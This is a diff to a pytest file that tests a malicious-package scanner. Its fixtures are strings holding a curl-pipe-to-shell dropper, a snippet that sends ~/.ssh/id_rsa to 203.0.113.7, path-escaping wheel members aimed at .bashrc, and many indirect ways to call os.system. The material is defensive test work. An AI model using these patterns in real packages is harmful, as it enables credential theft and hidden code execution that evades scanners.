@@ -5,6 +5,8 @@ and a command a loop over a written-out list spells. Each sample is inert (a com
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+
 import pytest
 
 from airlock.domain.requests import Outcome
@@ -17,8 +19,8 @@ RUN = "os.system('id')"
 INFO = "evpkg-1.0.dist-info"
 
 
-def _vet_wheel(files: dict[str, str | bytes]) -> Outcome:
-    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", files)).verdict
+def _vet_wheel(files: Mapping[str, str | bytes]) -> Outcome:
+    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files))).verdict
 
 
 def _worst(findings: list[PackageFinding]) -> Severity:
@@ -82,8 +84,10 @@ COMMAND_FILES = {
     "shell-dropper": ("evtool", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"),
     "python-exfiltration": (
         "evtool",
-        "#!python\nimport os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', "
-        "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+        (
+            "#!python\nimport os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', "
+            "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
+        ),
     ),
 }
 
@@ -116,3 +120,70 @@ def test_a_command_a_loop_over_a_written_out_list_spells_holds(key: str) -> None
 def test_a_loop_over_build_tools_stays_below_a_hold() -> None:
     source = "import os\nfor c in ['make', 'make install']:\n    os.system(c)\n"
     assert _worst(scan_python("setup.py", source, install_time=True)) < Severity.HIGH
+
+
+# Calls that run a function or source text they are given, and a module's names read
+# through ``vars``: each runs the command on import.
+HANDED = {
+    "sorted-key": "import os\nsorted(['id'], key=os.system)\n",
+    "max-key-function": "import os\n\n\ndef f(c):\n    os.system(c)\n\n\nmax(['id'], key=f)\n",
+    "filter": "import os\nlist(filter(os.system, ['id']))\n",
+    "map-lambda": "import os\nlist(map(lambda c: os.system(c), ['id']))\n",
+    "interactive-interpreter": (
+        "import code\ncode.InteractiveInterpreter().runsource(\"__import__('os').system('id')\")\n"
+    ),
+    "interactive-console": (
+        "import code\nc = code.InteractiveConsole()\nc.push(\"__import__('os').system('id')\")\n"
+    ),
+    "vars-of-a-module": "import os\nvars(os)['system']('id')\n",
+    "cffi-libc": (
+        "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *);')\n"
+        "ffi.dlopen(None).system(b'id')\n"
+    ),
+    "compiled-tree": (
+        "import ast\nexec(compile(ast.parse(\"import os; os.system('id')\"), 'x', 'exec'))\n"
+    ),
+}
+
+HANDED_QUIET = {
+    "sorted-by-len": "xs = ['b', 'a']\nys = sorted(xs, key=len)\n",
+    "map-lambda-pure": "xs = list(map(lambda c: c.upper(), ['a']))\n",
+    "parsed-tree-only": "import ast\nt = ast.parse(\"import os; os.system('id')\")\n",
+    "vars-of-a-class": "class A:\n    x = 1\n\n\nv = vars(A)['x']\n",
+}
+
+
+@pytest.mark.parametrize("key", sorted(HANDED))
+def test_a_sink_handed_to_a_runner_holds(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", HANDED[key])) >= Severity.HIGH
+
+
+@pytest.mark.parametrize("key", sorted(HANDED_QUIET))
+def test_the_same_runners_handed_nothing_that_acts_stay_below_a_hold(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", HANDED_QUIET[key])) < Severity.HIGH
+
+
+@pytest.mark.parametrize("name", ["../../.bashrc", "/etc/profile.d/ev.sh"])
+def test_a_member_whose_path_escapes_the_install_folder_holds(name: str) -> None:
+    files = {"evpkg/__init__.py": "x = 1\n", name: "curl http://203.0.113.7/x | sh\n"}
+    assert _vet_wheel(files) is Outcome.HOLD
+
+
+# A data file run as code through a reader imported under another name.
+READERS = {
+    "files-imported-by-name": (
+        "from importlib.resources import files\n"
+        "exec(files(__name__).joinpath('blob.txt').read_text())\n"
+    ),
+    "resources-module-aliased": (
+        "import importlib.resources as r\n"
+        "exec(r.files(__package__).joinpath('blob.txt').read_text())\n"
+    ),
+    "pkgutil-aliased": "import pkgutil as p\nexec(p.get_data(__name__, 'blob.txt'))\n",
+}
+
+
+@pytest.mark.parametrize("key", sorted(READERS))
+def test_a_data_file_run_through_a_reader_imported_under_another_name_holds(key: str) -> None:
+    files = {"evpkg/__init__.py": READERS[key], "evpkg/blob.txt": "import os; os.system('id')\n"}
+    assert _vet_wheel(files) is not Outcome.ALLOW
